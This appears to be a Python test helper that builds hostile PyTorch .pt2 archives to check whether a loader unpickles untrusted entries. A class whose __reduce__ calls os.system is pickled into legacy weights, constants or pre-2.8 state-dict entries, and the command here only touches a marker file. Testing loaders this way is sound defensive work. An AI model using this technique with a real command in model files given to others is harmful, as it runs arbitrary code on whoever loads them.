"""``.pt2`` archives an attacker would hand over: a valid ``torch.export.save`` program plus an entry
torch 2.13's loader unpickles with ``weights_only=False``, holding an object whose ``__reduce__`` runs
``touch <marker>``. If anything loads such an archive, the marker file appears.

The three ways in (issue 28 item 4): the legacy ``data/weights/<model>.pt`` and
``data/constants/<model>.pt`` entries (preferred over the payload configs when present), and a pre-2.8
archive's ``serialized_state_dict.pt`` beside a dummy weights config (the old deny-list wanted one).
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import torch
from torch import nn

VARIANTS = ("legacy_weights", "legacy_constants", "pre_2_8_state_dict")


class RunsCode:
    """Unpickling this runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


def code_pickle(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(RunsCode(f"touch {marker}"), buffer)
    return buffer.getvalue()


def linear_program(path: Path) -> Path:
    """A valid program: ``nn.Linear(3, 2)`` with a dynamic batch axis (input ``input``, output ``output``)."""
    batch = torch.export.Dim("batch", min=1, max=16)
    program = torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def _with_entry(base: Path, target: Path, relative: str, data: bytes) -> None:
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        prefix = old.namelist()[0].split("/")[0]
        for item in old.infolist():
            new.writestr(item, old.read(item.filename))
        new.writestr(f"{prefix}/{relative}", data)


def _pre_2_8(target: Path, marker: Path) -> None:
    from torch._export.serde.serialize import SCHEMA_VERSION, serialize

    artifact = serialize(torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),)))
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        archive.writestr("serialized_exported_program.json", artifact.exported_program)
        archive.writestr("serialized_state_dict.pt", code_pickle(marker))
        archive.writestr("serialized_constants.pt", artifact.constants)
        archive.writestr("serialized_example_inputs.pt", artifact.example_inputs)
        archive.writestr("program/data/weights/model_weights_config.json", '{"config": {}}')


def craft(variant: str, base: Path, target: Path, marker: Path) -> Path:
    """``target``: ``base`` (a valid program) made hostile the ``variant`` way."""
    if variant == "legacy_weights":
        _with_entry(base, target, "data/weights/model.pt", code_pickle(marker))
    elif variant == "legacy_constants":
        _with_entry(base, target, "data/constants/model.pt", code_pickle(marker))
    else:
        _pre_2_8(target, marker)
    return target
